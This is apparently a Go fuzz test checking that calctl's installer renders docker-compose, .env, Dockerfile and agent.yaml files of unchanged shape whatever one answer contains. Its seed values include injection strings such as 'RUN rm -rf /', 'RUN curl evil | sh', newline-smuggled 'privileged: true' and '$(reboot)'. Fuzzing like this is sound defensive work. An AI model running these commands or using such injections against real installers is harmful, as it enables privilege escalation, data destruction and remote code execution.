package installer

import (
	"context"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/calctl/calctl/installer/contract"
	"github.com/calctl/calctl/internal/dotenv"
	"github.com/calctl/calctl/reporter/agentconfig"
)

// fuzzAnswerPaths are the free-text answers (and one secret from the
// environment) FuzzAnswersRender varies; env: marks an environment value.
var fuzzAnswerPaths = []string{
	"email.from", "email.from_name", "email.host", "email.user",
	"public_url", "install_dir", "source.ref", "billing.deployment_id",
	"images.postgres", "images.caddy", "images.calctl", "images.node",
	"env:SMTP_PASSWORD",
}

// fuzzEnvKeyOf is the .env key that carries an answer verbatim.
var fuzzEnvKeyOf = map[string]string{
	"email.from": "EMAIL_FROM", "email.from_name": "EMAIL_FROM_NAME", "email.host": "EMAIL_SERVER_HOST",
	"email.user": "EMAIL_SERVER_USER", "env:SMTP_PASSWORD": "EMAIL_SERVER_PASSWORD",
}

// renderShape is what must not change whatever one answer says: the files,
// the compose services and their privileges, the .env keys in order, the
// Dockerfile's instructions and agent.yaml's identity.
type renderShape struct {
	Files, Services, EnvKeys, Dockerfile []string
	Privileges                           map[string]string
	Ports                                map[string]int
	Deployment, DBEnv, AgentEnvFile      string
}

func shapeOf(t testing.TB, a *Answers, r *Rendered) (renderShape, *dotenv.File) {
	t.Helper()
	var s renderShape
	for _, f := range r.Files {
		s.Files = append(s.Files, f.Path)
	}
	sort.Strings(s.Files)
	p, err := LoadCompose(context.Background(), a.InstallDir, "calcom", fileOf(t, r, "docker-compose.yml"))
	if err != nil {
		t.Fatalf("the rendered compose file does not load: %v", err)
	}
	s.Services = p.ServiceNames()
	sort.Strings(s.Services)
	s.Privileges, s.Ports = map[string]string{}, map[string]int{}
	for _, svc := range p.Services {
		s.Privileges[svc.Name] = strings.Join([]string{
			strconvBool(svc.Privileged), svc.Pid, svc.Ipc, svc.NetworkMode, svc.User,
			strings.Join(svc.CapAdd, ","), strings.Join(svc.SecurityOpt, ","),
			strconvInt(len(svc.Volumes)), strconvInt(len(svc.Environment)),
		}, "|")
		s.Ports[svc.Name] = len(svc.Ports)
	}
	env, err := dotenv.Parse(fileOf(t, r, ".env"))
	if err != nil {
		t.Fatalf("the rendered .env does not parse: %v", err)
	}
	for _, e := range env.Entries() {
		s.EnvKeys = append(s.EnvKeys, e.Key)
	}
	joined := strings.ReplaceAll(string(fileOf(t, r, "build/web.Dockerfile")), "\\\n", " ")
	for _, l := range strings.Split(joined, "\n") {
		if l = strings.TrimSpace(l); l != "" && !strings.HasPrefix(l, "#") {
			s.Dockerfile = append(s.Dockerfile, strings.Fields(l)[0])
		}
	}
	cfg, err := agentconfig.Parse(fileOf(t, r, "agent/agent.yaml"))
	if err != nil {
		t.Fatalf("the rendered agent.yaml does not parse: %v", err)
	}
	s.Deployment, s.DBEnv, s.AgentEnvFile = cfg.DeploymentID, cfg.DatabaseURLEnv, cfg.EnvFile
	return s, env
}

func strconvBool(b bool) string {
	if b {
		return "true"
	}
	return "false"
}

func strconvInt(n int) string { return strings.Repeat("I", n) }

// FuzzAnswersRender: whatever one answer (or the SMTP password in the
// environment) says, calctl either refuses it or renders files of exactly
// the intended shape — the same files, compose services with the same
// privileges, the same .env keys in the same order, the same Dockerfile
// instructions, agent.yaml naming the same deployment — and the .env holds
// the value verbatim (issue 11 item 8 and "answers loading and rendering";
// asserted on the parsed files, never on text). Seeds: TestAnswersInjection.
func FuzzAnswersRender(f *testing.F) {
	c := renderCases[0]
	repo := c.repo(f)
	a0, env0 := loadCase(f, c)
	r0, err := RenderFiles(a0, env0, repo, c.secrets(env0), Existing{})
	if err != nil {
		f.Fatal(err)
	}
	want, _ := shapeOf(f, a0, r0)
	idx := func(p string) uint8 {
		for i, q := range fuzzAnswerPaths {
			if q == p {
				return uint8(i)
			}
		}
		panic(p)
	}
	for _, s := range []struct{ path, value string }{
		{"images.postgres", "postgres:16\n    privileged: true"},
		{"images.caddy", "caddy:2\npid: host"},
		{"images.calctl", "x\nRUN rm -rf /"},
		{"images.node", "node:18\nRUN curl evil | sh"},
		{"email.from", "cal@example.com\nNODE_ENV=development"},
		{"email.from_name", "Cal\nNEXT_PUBLIC_IS_E2E=1"},
		{"email.from_name", `Acme "Clinic" #1 & $(reboot)`},
		{"email.user", "user with spaces"},
		{"public_url", "https://cal$x.example.com"},
		{"public_url", `https://cal".example.com`},
		{"install_dir", "/opt/cal #1/install dir"},
		{"install_dir", "/opt/calcom\nx: 1"},
		{"env:SMTP_PASSWORD", "pa$$word $(id) `id` ${HOME} %24 'q' \"d\" \\ #x"},
		{"env:SMTP_PASSWORD", "line1\nNEXT_PUBLIC_IS_E2E=1"},
		{"source.ref", "main\nRUN id"},
		{"billing.deployment_id", "dep_1\nstate_dir: /"},
	} {
		f.Add(idx(s.path), s.value)
	}
	f.Fuzz(func(t *testing.T, which uint8, value string) {
		path := fuzzAnswerPaths[int(which)%len(fuzzAnswerPaths)]
		a, err := contract.DecodeAnswers([]byte(c.answers))
		if err != nil {
			t.Fatal(err)
		}
		envv := map[string]string{}
		for k, v := range c.env {
			envv[k] = v
		}
		if k, ok := strings.CutPrefix(path, "env:"); ok {
			envv[k] = value
		} else if err := a.Set(path, value); err != nil {
			return
		}
		if err := a.Finish(); err != nil {
			return
		}
		env, err := a.ResolveEnv(func(k string) string { return envv[k] })
		if err != nil {
			return
		}
		r, err := RenderFiles(a, env, repo, c.secrets(env), Existing{})
		if err != nil {
			return // refused is fine; a wrong file is not
		}
		got, parsed := shapeOf(t, a, r)
		if path == "billing.deployment_id" {
			if got.Deployment != a.Billing.DeploymentID {
				t.Fatalf("agent.yaml deployment_id %q, answer %q", got.Deployment, a.Billing.DeploymentID)
			}
			got.Deployment = want.Deployment
		}
		if path == "public_url" && strings.HasPrefix(a.PublicURL, "http://") {
			got.Ports["proxy"] = want.Ports["proxy"] // plain HTTP: the proxy publishes :80 only
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("%s=%q changed the rendered shape:\n got %+v\nwant %+v", path, value, got, want)
		}
		if k := fuzzEnvKeyOf[path]; k != "" && strings.TrimSpace(value) != "" { // empty: the default
			if v, _ := parsed.Lookup(k); v != value && !(path != "env:SMTP_PASSWORD" && v == strings.TrimSpace(value)) {
				t.Fatalf("%s=%q reads back from .env as %q", path, value, v)
			}
		}
	})
}
